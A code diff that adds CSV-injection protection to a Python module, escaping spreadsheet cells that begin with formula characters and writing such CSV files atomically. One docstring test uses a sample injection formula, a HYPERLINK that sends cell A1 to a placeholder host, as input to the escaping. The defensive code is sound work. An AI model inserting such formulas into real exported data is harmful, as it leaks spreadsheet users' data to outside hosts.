@@ -3,11 +3,13 @@
 from __future__ import annotations
 
 import contextlib
+import csv
 import datetime as dt
 import hashlib
+import io
 import os
 import tempfile
-from collections.abc import Iterator
+from collections.abc import Iterable, Iterator, Sequence
 from pathlib import Path
 from typing import BinaryIO
 
@@ -96,3 +98,60 @@ def creation_date() -> dt.datetime | None:
     (the wall clock would make every run's bytes differ)."""
     epoch = os.environ.get("SOURCE_DATE_EPOCH", "").strip()
     return build_time() if epoch.isdigit() else None
+
+
+# Spreadsheet-safe CSV (OWASP "CSV injection"): a cell that a spreadsheet would run as a formula
+# starts with one of these. Full-width forms are included: some spreadsheets fold them too.
+FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
+
+
+def spreadsheet_safe(value: object) -> str:
+    """A CSV cell that Excel, LibreOffice and Sheets show as text, never run as a formula.
+
+    A cell beginning with ``=``, ``+``, ``-``, ``@``, tab, carriage return or
+    line feed gets a leading apostrophe, which those programs show as the
+    same text. Numbers printkit writes (``int``) and empty cells are kept.
+
+    >>> spreadsheet_safe('=HYPERLINK("http://x?a="&A1,"Click")')
+    '\'=HYPERLINK("http://x?a="&A1,"Click")'
+    >>> spreadsheet_safe("Ada"), spreadsheet_safe(-3), spreadsheet_safe(None)
+    ('Ada', '-3', '')
+    """
+    if value is None:
+        return ""
+    if isinstance(value, int | float) and not isinstance(value, bool):
+        return str(value)
+    text = str(value)
+    return "'" + text if text and text[0] in FORMULA_STARTS else text
+
+
+def spreadsheet_value(cell: str) -> str:
+    """Undo :func:`spreadsheet_safe` when reading a CSV printkit wrote.
+
+    >>> spreadsheet_value("'=1+1"), spreadsheet_value("'quoted"), spreadsheet_value("Ada")
+    ('=1+1', "'quoted", 'Ada')
+    """
+    if len(cell) > 1 and cell[0] == "'" and cell[1] in FORMULA_STARTS:
+        return cell[1:]
+    return cell
+
+
+def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
+    """CSV text with every cell made :func:`spreadsheet_safe`."""
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\n")
+    writer.writerow(header)
+    writer.writerows([spreadsheet_safe(c) for c in row] for row in rows)
+    return buffer.getvalue()
+
+
+def write_csv(path: Path, header: Sequence[str], rows: Iterable[Sequence[object]]) -> None:
+    """Write a spreadsheet-safe CSV atomically, streaming ``rows`` (UTF-8, ``\\r\\n`` lines)."""
+    with atomic_open(Path(path)) as handle:
+        text = io.TextIOWrapper(handle, encoding="utf-8", newline="")
+        writer = csv.writer(text)
+        writer.writerow(header)
+        for row in rows:
+            writer.writerow([spreadsheet_safe(c) for c in row])
+        text.flush()
+        text.detach()
